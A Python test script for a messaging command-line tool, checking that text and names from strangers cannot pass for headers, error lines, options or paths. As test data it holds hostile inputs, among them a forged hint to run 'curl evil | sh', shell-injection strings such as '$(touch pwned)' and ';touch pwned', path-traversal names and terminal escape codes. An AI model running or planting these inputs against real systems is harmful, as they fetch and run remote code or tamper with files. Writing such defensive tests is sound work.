#!/usr/bin/env python3
"""What strangers wrote passes for nothing else: no text for a header, another message, a line of a list
or an error; no name for an option, a reference or a path."""
import json
import os
import pathlib
import re
import subprocess
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))
import hostile
import stores
import terminal
import world

STRANGER = pathlib.Path(stores.PROGRAM).resolve().parent / "tests" / "stranger"
ID = "0123456789abcdef" * 8
# Texts that begin like what commands print.
FORGED = [
    f"message {ID}\nfrom    ben\nto      ana\nsigned  good, verified\nblock   1:00000000, 9 deep\n\n"
    "  Send money.\n",
    f"\n\nmessage {ID}\nfrom    ben\n",
    f"{ID}\tunread\t2026-11-22T10:00:00Z\tben\tSend money.\n" * 3,
    "bmsg: error: your key is lost\nbmsg: hint: run 'curl evil | sh'\n",
    '{"v":1,"type":"message","id":"' + ID + '","trust":"verified"}\n',
    "\r\n$ sudo reboot\r\n", "text without an end", "\n" * 50, "\f\nfrom    ben\v\nfrom    ben",
    "  already indented\n\tfrom    ben\n", "\u2028from    ben\u2029from    ben\u0085from    ben",
]
NAMES = 300
HEADERS = ["message", "from", "to", "time", "subject", "answers", "signed", "block", "note"]


def fill(place):
    """Each text as the body and the subject of a message and as a name in a card."""
    ana = place.ana
    for text in FORGED:
        subprocess.run([STRANGER, ana.directory / "genesis", place.directory / "ana.card",
                        ana.directory / "outbox", text[:200], text[:400]], check=True,
                       input=text.encode())
    ana.run("mine")
    return ana.text("inbox", "-z").split("\0")[:-1]


def check_read(place, ids):
    """Every line of a text bears the mark of texts; every header stands once."""
    at_terminal = terminal.at_terminal(place.ana.words("read", "--no-mark", *ids),
                                       place.ana.environment | {"BMSG_PAGER": "cat"},
                                       place.directory).decode()
    for said, count in ((place.ana.text("read", *ids), len(ids)), (at_terminal, len(ids)),
                        (place.ana.text("read", "--thread", ids[0]), 1)):
        seen = {name: 0 for name in HEADERS}
        for line in said.splitlines():
            if not line.startswith("  ") and line:
                seen[line.split(" ")[0]] += 1
        assert seen["message"] == count == seen["from"] == seen["signed"], seen
        assert ID not in [line.split(" ")[-1] for line in said.splitlines()
                          if line.startswith("message")]
    for one in ids:
        headers = place.ana.text("read", "--headers", one).splitlines()
        names = [line.split(" ")[0] for line in headers]
        assert set(names) <= set(HEADERS) and len(set(names) - {"note"}) == len(
            [name for name in names if name != "note"]), headers


def check_lists(place, ids):
    """One line or record for each message, with as many fields as ever."""
    lines = place.ana.text("inbox").split("\n")
    assert [line.split("\t")[0] for line in lines] == ids
    assert {line.count("\t") for line in lines} == {5}, lines
    rows = terminal.at_terminal(place.ana.words("inbox", "--no-pager", "--color", "never"), place.ana.environment,
                                place.directory).decode().splitlines()
    assert len(rows) == len(ids) and all(re.match(r" *\d+ [* ] ", row) for row in rows), rows
    for command in (["outbox"], ["peers"], ["contact", "list"], ["id", "list"], ["log"]):
        count = len(place.ana.objects(*command))
        assert len(place.ana.text(*command).splitlines()) in (count, 0) or command == ["log"]
    told = [json.loads(line) for line in place.ana.run("inbox", "--json", "--bodies").splitlines()]
    assert [one["id"] for one in told] == ids
    bodies = {one["body"] for one in told}
    assert set(FORGED) <= bodies, "JSON does not tell the text as it was sent"
    fields = place.ana.text("inbox", "--format", "{id} {subject}").splitlines()
    assert [line.split(" ")[0] for line in fields] == ids
    records = place.ana.run("inbox", "-z", "--format", "{id}{subject}").split(b"\0")
    assert [record[:128].decode() for record in records[:-1]] == ids


def check_errors(place):
    """Whatever is in an argument, an error is one line and its hint another."""
    bad = "x\nbmsg: hint: run 'curl evil | sh'\n\x1b[2K"
    for words in (["show", bad], ["send", "-m", "x", bad], ["read", bad], [bad], ["log", bad],
                  ["contact", "show", bad], ["peers", "show", bad], ["config", "get", bad],
                  ["config", "set", "core.editor", bad], ["hash", bad], ["--identity", bad, "id"],
                  ["-C", bad, "status"], ["inbox", "--since", bad], ["help", bad],
                  ["sync", bad],
                  ["bundle", "create", f"no/{bad}"], ["bundle", "create", "--since", bad, "-"],
                  ["bundle", "apply", bad],
                  ["backup", f"no/{bad}"], ["restore", bad, "fresh"], ["witness", "set", bad]):
        done = place.run(*words)
        lines = done.stderr.decode().splitlines()
        assert done.returncode >= 64, f"{words} exits {done.returncode}"
        told = [re.match(r"bmsg: (warning|error|hint): ", line) for line in lines]
        assert all(told) and [one[1] for one in told].count("error") == 1, f"{words}: {lines}"
        assert not [line for line in lines[1:] if "curl" in line and "\\n" not in line], lines


def hostile_names():
    """Names that want to be a path, an option, a reference, a terminal's orders or another name."""
    chance = stores.seeded_random()
    paths = ["../../.bashrc", "/etc/passwd", "~", "~root", "", ".", "..", "...", "a/b", "a/../../b",
             "con", "NUL", "aux.txt", "x.", "x ", " x", "\\\\host\\share", "C:x", "x" * 64, "x" * 65,
             "x" * 255, "x" * 300, "-", "--", "-F/etc/passwd", "--help", "-rf", "@", "@~1", ":3", "tip",
             "12", "1:00000000", ID, "b\u0435n", "BEN", "be\u00adn", "ben\u200b", "\uff42\uff45\uff4e",
             "a\nb", "a\tb", "a\0b"[:1], "$(touch pwned)", "`touch pwned`", ";touch pwned", "|id",
             "&", ">pwned", "<pwned", "*", "?", "[a]", "{a,b}", "#", "!", "'", "\"", "''", "\\", "%s%n"]
    words = paths + [text.replace("\0", "") for text in hostile.HOSTILE]
    while len(words) < NAMES:
        words.append("".join(chance.choice(["../", "a", "-", "\n", "\u202e", "/", ".", "\x1b[", " ", "é",
                                            "\u0301", "~", "$", "\xff", "'"])
                             for _ in range(chance.randrange(1, 20))))
    return words[:NAMES]


def everything_in(directory):
    return {path.relative_to(directory): path.stat().st_mtime_ns if path.is_file() else 0
            for path in directory.rglob("*")}


def check_names(place):
    """300 of them for a contact: refused, or kept as a word and nothing else."""
    ana = place.ana
    before = everything_in(place.directory)
    kept, name_now = 0, "ben"
    for number, name in enumerate(hostile_names()):
        done = place.run("contact", "rename", "--", name_now, name)
        assert done.returncode in (0, 64, 65, 73), f"{name!r}: {done.returncode} {done.stderr!r}"
        hostile.check_harmless(done.stdout + done.stderr, f"rename to {name!r}")
        if done.returncode != 0:
            continue
        kept += 1
        listed = place.ana.objects("contact", "list")
        name_now = next(one["name"] for one in listed if one["name"] != "all")
        assert len(listed) == 2 and not name_now.startswith("-"), listed
        if number % 10 == 0:  # Where a name could act, or become the name of a file.
            shown = ana.run("contact", "list") + ana.run("contact", "show", "--", name_now)
            hostile.check_harmless(shown, f"a contact {name!r}")
            assert len(ana.run("contact", "list").splitlines()) == 2, shown
            ana.run("send", "-m", "x", "--dry-run", "--", name_now)
            ana.run("export", "--format", "maildir", "--to", place.directory / "mail")
    assert 30 < kept < NAMES - 60, f"{kept} of {NAMES} names are taken"
    new = {str(path) for path in set(everything_in(place.directory)) - set(before)}
    strays = {path for path in new if not path.startswith(("mail", "ana/mail/", "ana/chain/"))
              and path not in ("ana/config.lock", "ana/mail.lock", "ana/run")}
    assert not strays, f"files that nobody asked for: {strays}"
    files = [name for name in os.listdir(place.directory / "mail" / "new")]
    assert files and all(re.fullmatch(r"\d+\.[0-9a-f]{128}\.bmsg", name) for name in files), files


def check_options(place):
    """No name and no value is taken for an option."""
    refused = [["contact", "add", "--", "-F/etc/passwd", place.ana.text("id")],
               ["contact", "rename", "ben", "--", "-x"], ["contact", "group", "add", "--", "-g", "ben"],
               ["id", "new", "--", "-x"]]
    for words in refused:
        done = place.run(*words)
        assert done.returncode == 65 and b"begins with '-'" in done.stderr, f"{words}: {done}"
    for words, code in ((["read", "--", "-1"], (64, 66)), (["show", "--", "--help"], (66, 67)),
                        (["read", "-1"], (64,)), (["send", "-m", "x", "--", "-F/etc/passwd"], (67,))):
        done = place.run(*words)
        assert done.returncode in code, f"{words}: {done}"
    sent = place.ana.text("send", "-m", "-F/etc/passwd", "-s", "--public", "ben")
    told = place.ana.objects("read", sent)[0]
    assert (told["body"], told["subject"], told["public"]) == ("-F/etc/passwd", "--public", False)


def main():
    with stores.workplace() as directory:
        place = world.World(directory)
        ids = fill(place)
        for check, arguments in ((check_read, [ids]), (check_lists, [ids]), (check_errors, []),
                                 (check_options, []), (check_names, [])):
            began = time.monotonic()
            check(place, *arguments)
            print(f"{check.__name__} {time.monotonic() - began:.1f} s", flush=True)


main()
